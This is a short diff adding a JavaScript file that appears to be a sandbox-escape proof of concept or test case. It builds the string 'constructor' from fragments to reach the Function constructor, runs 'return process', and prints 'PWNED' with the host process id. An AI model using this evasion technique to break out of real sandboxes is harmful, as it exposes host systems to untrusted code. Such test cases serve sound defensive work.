@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const s = {};
+const k = ['k', 'x'].join('');
+s[k] = t;
+const o = Date.now() > 1 ? s[k] : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
